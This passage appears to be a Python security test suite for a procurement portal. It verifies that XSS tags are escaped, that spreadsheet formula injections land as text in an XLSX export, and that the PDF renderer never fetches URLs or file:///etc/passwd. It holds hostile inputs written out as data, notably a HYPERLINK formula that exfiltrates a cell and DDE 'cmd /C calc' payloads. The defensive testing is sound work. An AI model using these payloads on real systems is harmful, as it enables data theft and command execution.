    ("filename", "provider, API upload", ["bid"], []),  # nor the file names (sealed too)
    ("clarification", "officer, API request", ["request"], []),
    ("reply", "provider, API answer", ["request"], []),
]
RAW_TAGS = ("<script>alert", "<img src=x", "<svg onload")


def shown(field_name: str) -> str:
    return FILENAME if field_name == "filename" else payload(field_name)


def pdf_text(document: GeneratedDocument) -> str:
    """The PDF's text with no white space at all."""
    return "".join(pypdf_text(document).split())


def test_html_and_script_in_every_text_field_are_shown_escaped_in_the_portal_and_as_text_in_pdfs(
    authority, officer, officer2, client_for, storage
):
    officers = client_for(officer)
    # a provider registers itself, its name and its administrator's name hostile
    registration = _registration(payload("provider"), 77)
    registration["admin"].update(first_name=payload("first"), last_name=payload("last"))
    assert client_for().post("/api/v1/providers/register/", registration, format="json").status_code == 201
    member = User.objects.get(username="hostile77")
    provider = client_for(member)

    # an officer drafts a call with hostile text in each field, and it is approved and published
    created = officers.post(
        "/api/v1/tenders/",
        tender_payload(
            authority,
            title_fi=payload("title"),
            description_fi=payload("description") + "\n" + payload("description"),
            lots=[
                {
                    "number": 1,
                    "title": payload("lot"),
                    "municipality": payload("place"),
                    "nuts": "FI1D2",
                    "students": 20,
                }
            ],
            criteria=[
                {
                    "number": 1,
                    "name": payload("criterion"),
                    "guidance": payload("guidance"),
                    "weight": "40",
                    "max_points": "10",
                }
            ],
            requirements=[{"number": 1, "kind": "technical", "text": payload("requirement"), "evidence": "CV"}],
        ),
        format="json",
    )
    assert created.status_code == 201, created.content
    tender = Tender.objects.get(pk=created.json()["id"])
    tender_submit_for_approval(actor=officer, tender_id=tender.pk)
    tender_approve(actor=officer2, tender_id=tender.pk)
    tender_publish(actor=officer, tender_id=tender.pk)

    # a question and its published answer
    asked = provider.post(f"/api/v1/tenders/{tender.pk}/questions/", {"text": payload("question")}, format="json")
    assert asked.status_code == 201, asked.content
    answered = officers.post(
        f"/api/v1/tenders/{tender.pk}/questions/{asked.json()['id']}/answer/",
        {"answer": payload("answer")},
        format="json",
    )
    assert answered.status_code == 200, answered.content
    assert officers.post(f"/api/v1/tenders/{tender.pk}/answers/publish/", {}, format="json").status_code == 201

    # a bid with hostile answers, evidence, contact and file name
    content = full_content(tender)
    content["quality_answers"][0]["text"] = payload("quality")
    content["suitability_evidence"][0]["text"] = payload("evidence")
    content["contact"]["name"] = payload("contact")
    made = provider.post("/api/v1/bids/", {"tender": tender.pk, **content}, format="json")
    assert made.status_code == 201, made.content
    bid = Bid.objects.get(pk=made.json()["id"])
    assert upload(provider, bid.pk, FILENAME, pdf_bytes()).status_code == 200

    browser = {}
    for user in (member, officer):
        browser[user.pk] = Client()
        browser[user.pk].force_login(user)
    pages = {
        "call": (member, f"/calls/{tender.pk}/"),
        "questions": (officer, f"/calls/ours/{tender.pk}/questions/"),
        "bid": (member, f"/bids/{bid.pk}/"),
        "organisation": (member, "/organisation/"),
    }
    seen = {name: browser[user.pk].get(url) for name, (user, url) in pages.items()}

    submitted = provider.post(f"/api/v1/bids/{bid.pk}/submit/")
    assert submitted.status_code == 200, submitted.content
    run_outbox("bids.after_submit")  # its receipt, as a worker sends it after the commit

    # the documents, rendered as the worker renders them
    tender_document = document_render(document_id=GeneratedDocument.objects.get(tender=tender, kind="call").pk)
    version = BidVersion.objects.get(bid=bid)
    receipt = document_render(
        document_id=GeneratedDocument.objects.get(kind="receipt", subject=f"bid-version:{version.pk}").pk
    )
    pdfs = {"call": pdf_text(tender_document), "receipt": pdf_text(receipt)}

    # after the deadline: the opening, a clarification request and its answer, the scores page
    Tender.objects.filter(pk=tender.pk).update(submission_deadline=timezone.now() - timedelta(seconds=1))
    tender_close(actor=officer, tender_id=tender.pk)
    seat_panel(tender, officer)
    open_bids(tender, officer)
    qualify_all(tender, officer)
    asked = officers.post(
        f"/api/v1/tenders/{tender.pk}/requests/",
        {
            "bid": bid.pk,
            "kind": "clarification",
            "message": payload("clarification"),
            "deadline": (timezone.now() + timedelta(days=3)).isoformat(),
        },
        format="json",
    )
    assert asked.status_code == 201, asked.content
    replied = provider.post(
        f"/api/v1/bids/{bid.pk}/requests/{asked.json()['id']}/answer/", {"answer": payload("reply")}, format="json"
    )
    assert replied.status_code == 200, replied.content
    seen["request"] = browser[member.pk].get(f"/bids/{bid.pk}/requests/{asked.json()['id']}/")
    seen["scores"] = browser[officer.pk].get(f"/evaluation/{tender.pk}/scores/")

    # then every page shows every field as text, escaped, and no hostile tag as markup
    wrong = []
    for page in seen.values():
        assert page.status_code == 200
    for name, page in seen.items():
        text = page.content.decode()
        wrong += [f"{name}: raw {tag}" for tag in RAW_TAGS if tag in text]
    for field_name, _typed_by, page_names, pdf_names in TEXT_FIELDS:
        for name in page_names:
            if html.escape(shown(field_name)) not in seen[name].content.decode():
                wrong.append(f"{field_name} not shown escaped on the {name} page")
        for name in pdf_names:
            if "".join(shown(field_name).split()) not in pdfs[name]:
                wrong.append(f"{field_name} not shown as text in the {name} PDF")
    assert wrong == []
    assert Bid.objects.get(pk=bid.pk).status == BidStatus.SUBMITTED
    assert chain_is_intact()


# --- text that a spreadsheet would run: the comparison XLSX writes it as text (issue 17) --------------------------

# Providers' names that a spreadsheet takes for formulas: a link that sends a neighbouring cell (a competitor's
# price) away, and the DDE and arithmetic forms of OWASP's CSV-injection list.
EXPORT_NAMES = [
    '=HYPERLINK("http://127.0.0.1:9/?p="&D4,"Avaa tarjous")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def test_formulas_in_providers_names_are_text_in_the_comparison_xlsx(authority, officer, client_for):
    from tests.fixtures.exports import cells, comparison_xlsx

    found = cells(comparison_xlsx(authority, officer, client_for, EXPORT_NAMES, lot_title="=1+1"))

    assert [cell.coordinate for cell in found if cell.data_type == "f"] == []
    shown = {cell.value for cell in found if cell.data_type == "s"}
    assert set(EXPORT_NAMES) <= shown


# --- file:// and http:// in what reaches the PDF renderer: nothing is ever fetched --------------------------------


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Answers every GET with a small PNG, and records it."""

    def do_GET(self):
        self.server.requests.append(self.path)
        body = image_bytes("PNG") if self.path.endswith(".png") else b"p { color: red }"
        self.send_response(200)
        self.send_header("Content-Type", "image/png" if self.path.endswith(".png") else "text/css")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        """Quiet: the test reads the recorded requests, not the server's log."""


@pytest.fixture
def loopback():
    """An HTTP server on the loopback that records every request it gets."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.requests = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()
    thread.join()


def fetch_vectors(base: str) -> list[tuple[str, str]]:
    """Every way that HTML and CSS given to WeasyPrint can make it fetch (the path the server would see)."""
    svg = (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='9' height='9'>"
        f"<image xlink:href='{base}/nested.png' width='9' height='9'/></svg>"
    )
    return [
        ("/img.png", f'<img src="{base}/img.png">'),
        ("/stylesheet.css", f'<link rel="stylesheet" href="{base}/stylesheet.css">'),
        ("/import.css", f'<style>@import url("{base}/import.css");</style>'),
        ("/background.png", f'<div style="background-image: url({base}/background.png); height: 9px">x</div>'),
        ("/list.png", f'<ul style="list-style-image: url({base}/list.png)"><li>x</li></ul>'),
        ("/content.png", f'<style>.c::before {{ content: url({base}/content.png) }}</style><p class="c">x</p>'),
        (
            "/font.png",
            f"<style>@font-face {{ font-family: F; src: url({base}/font.png) }} .f {{ font-family: F }}</style>"
            "<p class='f'>x</p>",
        ),
        ("/svg.png", f'<svg width="9" height="9"><image href="{base}/svg.png" width="9" height="9"/></svg>'),
        ("/nested.png", f'<img src="data:image/svg+xml;utf8,{html.escape(svg)}">'),
        ("/attachment.png", f'<a rel="attachment" href="{base}/attachment.png">liite</a>'),
        ("/link-attachment.png", f'<link rel="attachment" href="{base}/link-attachment.png">'),
        ("/object.png", f'<object data="{base}/object.png" type="image/png"></object>'),
        ("/embed.png", f'<embed src="{base}/embed.png" type="image/png">'),
        ("/relative.png", f'<base href="{base}/"><img src="relative.png">'),
        ("", '<img src="file:///etc/passwd"><link rel="stylesheet" href="file:///etc/passwd">'),
        ("", '<link rel="attachment" href="file:///etc/passwd"><a rel="attachment" href="file:///etc/passwd">x</a>'),
        ("", "<style>@import url(file:///etc/passwd);</style>"),
    ]


def embedded_files(pdf: bytes) -> dict:
    return PdfReader(io.BytesIO(pdf)).attachments


def test_the_renderer_fetches_nothing_from_html_it_is_given(loopback):
    server, base = loopback
    vectors = fetch_vectors(base)
    document = "<p>Tarjouspyyntö</p>" + "".join(markup for _path, markup in vectors)

    # a renderer that may fetch (WeasyPrint's default) does ask the server for these: the check below can see it
    weasyprint.HTML(string=document).write_pdf()
    fetched = set(server.requests)
    assert {"/img.png", "/stylesheet.css", "/import.css", "/background.png", "/attachment.png"} <= fetched, fetched
    server.requests.clear()

    # when the project's renderer renders the same HTML
    pdf = render_html(document)

    # then the server gets no request, and no local file is in the PDF, shown or attached
    assert server.requests == []
    assert pdf.startswith(b"%PDF-")
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(pdf)).pages)
    assert "Tarjouspyyntö" in text and "root:" not in text
    assert embedded_files(pdf) == {}
    assert b"root:x:0:0" not in pdf


def test_urls_in_a_call_description_reach_the_pdf_as_text_and_are_never_fetched(
    loopback, authority, officer, officer2, client_for, storage
):
    server, base = loopback
    description = "\n".join(markup for _path, markup in fetch_vectors(base))
    created = client_for(officer).post(
        "/api/v1/tenders/",
        tender_payload(authority, description_fi=description, title_fi=f"Ks. {base}/title.png ja file:///etc/passwd"),
        format="json",
    )
    assert created.status_code == 201, created.content
    tender_id = created.json()["id"]
    tender_submit_for_approval(actor=officer, tender_id=tender_id)
    tender_approve(actor=officer2, tender_id=tender_id)
    tender_publish(actor=officer, tender_id=tender_id)

    document = document_render(document_id=GeneratedDocument.objects.get(tender_id=tender_id, kind="call").pk)

    assert server.requests == []
    text = pdf_text(document)
    assert "".join(f'<img src="{base}/img.png">'.split()) in text
    assert '<imgsrc="file:///etc/passwd">' in text
    with document.file.open("rb") as handle:
        pdf = handle.read()
    assert b"root:x:0:0" not in pdf
    attached = embedded_files(pdf)
    assert set(attached) == {"source.json"}
    assert b"root:x:0:0" not in b"".join(attached["source.json"])


# --- the corpus ---------------------------------------------------------------------------------------------------


def test_the_corpus_size(figures):
    sizes = {
        "uploads refused (API)": len(UPLOADS),
        "file names sanitised": len(SANITISED_NAMES),
        "polyglot PDF made harmless": 1,
        "uploads refused (portal)": len(PORTAL_UPLOADS) + 1,
        "numbers, dates and bodies": len(FIELDS),
        "scores and request deadlines": len(OPENED_FIELDS),
        "names × (organisation, person, contact)": len(NAMES) * 3,
        "names in the portal's registration": 3,
        "text fields, each with <script>, <img onerror> and <svg onload>": len(TEXT_FIELDS),
        "formulas as names in the comparison XLSX": len(EXPORT_NAMES),
        "fetches from what the renderer is given": len(fetch_vectors("http://127.0.0.1:9")) * 2,
    }
    total = sum(sizes.values())
    figures(f"Hostile inputs tried: {total}\n" + "\n".join(f"  {count:4} {what}" for what, count in sizes.items()))
    assert total >= 200
